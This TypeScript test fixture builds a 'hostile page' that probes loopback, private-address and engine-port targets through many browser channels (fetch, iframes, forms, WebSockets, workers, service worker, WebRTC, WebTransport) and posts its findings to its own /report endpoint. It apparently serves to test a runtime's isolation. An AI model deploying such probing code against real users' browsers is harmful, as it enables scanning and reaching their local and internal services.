/**
 * The hostile page (G3, G4): one page that tries every channel a page has to reach a list of
 * targets — the engine's port under every spelling, names that resolve to loopback, a private
 * address — and reports what it could learn to its own site (`POST /report`).
 *
 * Channels: speculation-rules prefetch and prerender, fetch, XHR, iframe, form, redirect, beacon,
 * EventSource, image, WebSocket from the main frame, a sandboxed `srcdoc` iframe, a dedicated
 * worker, a shared worker and a service worker, WebRTC (STUN, TURN over UDP, TURN over TCP) and
 * WebTransport.
 */

/** What the page is told to attack. */
export interface Attack {
  /** `host:port` for URL channels, every spelling. */
  readonly targets: ReadonlyArray<string>
  /** `host:port` with literal addresses only, for WebRTC and WebTransport (they resolve names in the browser). */
  readonly udpTargets: ReadonlyArray<string>
  /**
   * `host:port` of names that resolve to a private address: only proxied channels (fetch, iframe, WebSocket), never a
   * channel that might resolve it in the browser.
   */
  readonly privateTargets: ReadonlyArray<string>
}

/** The WebSocket attempt, the same code in every realm (page, iframe, workers). */
const WS_PROBE = `
const wsProbe = (targets) => Promise.all(targets.map((t) => new Promise((resolve) => {
  let ws
  const done = (how, data) => { try { ws.close() } catch {} ; resolve({ target: t, how, data }) }
  try { ws = new WebSocket('ws://' + t + '/ws') } catch (e) { return resolve({ target: t, how: 'throw' }) }
  const timer = setTimeout(() => done('timeout'), 4000)
  ws.onopen = () => { ws.send('hello') }
  ws.onmessage = (m) => { clearTimeout(timer); done('message', String(m.data).slice(0, 40)) }
  ws.onerror = () => { clearTimeout(timer); done('error') }
  ws.onclose = () => { clearTimeout(timer); done('close') }
})))
`

/** `/worker.js`: a dedicated worker's WebSockets and fetches. */
export const WORKER_JS = `${WS_PROBE}
onmessage = async (e) => {
  const ws = await wsProbe(e.data)
  const fetched = await Promise.all(e.data.map((t) =>
    fetch('http://' + t + '/worker-fetch').then((r) => r.text()).then((x) => x.slice(0, 40), () => 'error')))
  postMessage({ ws, fetched })
}`

/** `/shared.js`: a shared worker's WebSockets. */
export const SHARED_JS = `${WS_PROBE}
onconnect = (c) => {
  const port = c.ports[0]
  port.onmessage = async (e) => port.postMessage({ ws: await wsProbe(e.data) })
}`

/** `/sw.js`: a service worker's WebSockets and fetches. */
export const SW_JS = `${WS_PROBE}
self.addEventListener('install', () => self.skipWaiting())
self.addEventListener('activate', (e) => e.waitUntil(self.clients.claim()))
self.addEventListener('message', (e) => e.waitUntil((async () => {
  const ws = await wsProbe(e.data)
  const fetched = await Promise.all(e.data.map((t) =>
    fetch('http://' + t + '/sw-fetch').then((r) => r.text()).then((x) => x.slice(0, 40), () => 'error')))
  e.source.postMessage({ ws, fetched })
})()))`

/** `/hostile?attack=<json>`: the page. */
export const HOSTILE_HTML = `<!doctype html><title>hostile</title><body><script>${WS_PROBE}
const attack = JSON.parse(new URLSearchParams(location.search).get('attack'))
const T = attack.targets
const settle = (p, ms = 4000) => Promise.race([p, new Promise((r) => setTimeout(() => r('timeout'), ms))])
const text = (p) => settle(p.then((r) => r.text()).then((x) => x.slice(0, 40), () => 'error'))

// Speculation rules first: they run on their own while the rest goes on.
const rules = document.createElement('script')
rules.type = 'speculationrules'
rules.textContent = JSON.stringify({
  prefetch: [{ source: 'list', urls: T.map((t) => 'http://' + t + '/prefetch'), requires: [] }],
  prerender: [{ source: 'list', urls: T.map((t) => 'http://' + t + '/prerender') }],
})
document.head.append(rules)

const frames = (make) => Promise.all(T.map((t) => new Promise((resolve) => {
  const f = make(t)
  f.onload = () => resolve('loaded')
  document.body.append(f)
  setTimeout(() => resolve('timeout'), 4000)
})))

const channels = {
  fetch: () => Promise.all(T.map((t) => text(fetch('http://' + t + '/fetch')))),
  fetchNoCors: () => Promise.all(T.map((t) =>
    settle(fetch('http://' + t + '/no-cors', { mode: 'no-cors' }).then((r) => r.type, () => 'error')))),
  xhr: () => Promise.all(T.map((t) => settle(new Promise((resolve) => {
    const x = new XMLHttpRequest(); x.open('GET', 'http://' + t + '/xhr')
    x.onload = () => resolve(x.responseText.slice(0, 40)); x.onerror = () => resolve('error'); x.send()
  })))),
  redirect: () => Promise.all(T.map((t) =>
    text(fetch('/redirect?to=' + encodeURIComponent('http://' + t + '/redirected'))))),
  beacon: async () => T.map((t) => navigator.sendBeacon('http://' + t + '/beacon', 'x')),
  eventSource: () => Promise.all(T.map((t) => settle(new Promise((resolve) => {
    const es = new EventSource('http://' + t + '/events')
    es.onmessage = (m) => { es.close(); resolve(String(m.data).slice(0, 40)) }
    es.onerror = () => { es.close(); resolve('error') }
  })))),
  image: () => Promise.all(T.map((t) => settle(new Promise((resolve) => {
    const i = new Image()
    i.onload = () => resolve('loaded')
    i.onerror = () => resolve('error')
    i.src = 'http://' + t + '/img'
  })))),
  iframe: () => frames((t) => Object.assign(document.createElement('iframe'), { src: 'http://' + t + '/frame' })),
  form: () => frames((t) => {
    const name = 'form-' + t.replace(/[^a-z0-9]/gi, '')
    const f = Object.assign(document.createElement('iframe'), { name })
    queueMicrotask(() => {
      const action = 'http://' + t + '/form'
      const form = Object.assign(document.createElement('form'), { method: 'POST', action, target: name })
      form.append(Object.assign(document.createElement('input'), { name: 'x', value: 'y' }))
      document.body.append(form); form.submit()
    })
    return f
  }),
  wsMain: () => wsProbe(T),
  wsSandboxed: () => settle(new Promise((resolve) => {
    const f = document.createElement('iframe')
    f.sandbox = 'allow-scripts'
    f.srcdoc = '<script>' + ${JSON.stringify(WS_PROBE)} + 'wsProbe(' + JSON.stringify(T) +
      ').then((r) => parent.postMessage({ sandboxed: r }, "*"))<' + '/script>'
    addEventListener('message', (e) => { if (e.data && e.data.sandboxed) resolve(e.data.sandboxed) })
    document.body.append(f)
  }), 8000),
  worker: () => settle(new Promise((resolve) => {
    const w = new Worker('/worker.js'); w.onmessage = (e) => resolve(e.data); w.postMessage(T)
  }), 12000),
  sharedWorker: () => settle(new Promise((resolve) => {
    const s = new SharedWorker('/shared.js')
    s.port.onmessage = (e) => resolve(e.data)
    s.port.start()
    s.port.postMessage(T)
  }), 8000),
  serviceWorker: () => settle((async () => {
    const reg = await navigator.serviceWorker.register('/sw.js')
    const sw = reg.active || reg.installing || reg.waiting
    if (sw.state !== 'activated') {
      await new Promise((r) => sw.addEventListener('statechange', () => sw.state === 'activated' && r()))
    }
    return new Promise((resolve) => {
      navigator.serviceWorker.addEventListener('message', (e) => resolve(e.data))
      sw.postMessage(T)
    })
  })(), 12000),
  private: () => Promise.all(attack.privateTargets.map((t) => Promise.all([
    text(fetch('http://' + t + '/private')),
    new Promise((resolve) => {
      const f = Object.assign(document.createElement('iframe'), { src: 'http://' + t + '/private-frame' })
      f.onload = () => resolve('loaded')
      document.body.append(f)
      setTimeout(() => resolve('timeout'), 4000)
    }),
    wsProbe([t]),
  ]))),
  webrtc: () => settle((async () => {
    if (typeof RTCPeerConnection === 'undefined') return 'absent'
    const iceServers = attack.udpTargets.flatMap((t) => [
      { urls: 'stun:' + t },
      { urls: 'turn:' + t + '?transport=udp', username: 'u', credential: 'p' },
      { urls: 'turn:' + t + '?transport=tcp', username: 'u', credential: 'p' },
    ])
    const pc = new RTCPeerConnection({ iceServers })
    const candidates = []
    pc.onicecandidate = (e) => e.candidate && candidates.push(e.candidate.type)
    pc.createDataChannel('x')
    await pc.setLocalDescription(await pc.createOffer())
    await new Promise((r) => {
      if (pc.iceGatheringState === 'complete') r()
      pc.onicegatheringstatechange = () => pc.iceGatheringState === 'complete' && r()
    })
    pc.close()
    return candidates
  })(), 10000),
  webTransport: () => typeof WebTransport === 'undefined'
    ? Promise.resolve('absent')
    : Promise.all(attack.udpTargets.map((t) => settle((async () => {
    const wt = new WebTransport('https://' + t + '/wt')
    try { await wt.ready; return 'open' } catch { return 'error' }
  })()))),
}

// Workers' WebSockets last: when one shows in the page's websocket event the runtime closes the
// tab (contexts.ts), so everything else reports first.
const LAST = ['worker', 'sharedWorker', 'serviceWorker']
const run = async (names, part) => {
  const results = { part }
  await Promise.all(names.map(async (name) => {
    try { results[name] = await channels[name]() } catch (e) { results[name] = 'threw ' + String(e).slice(0, 60) }
  }))
  await fetch('/report', { method: 'POST', body: JSON.stringify(results) })
}
;(async () => {
  await run(Object.keys(channels).filter((n) => !LAST.includes(n)), 1)
  await run(LAST, 2)
  document.title = 'done'
})()
</script>`
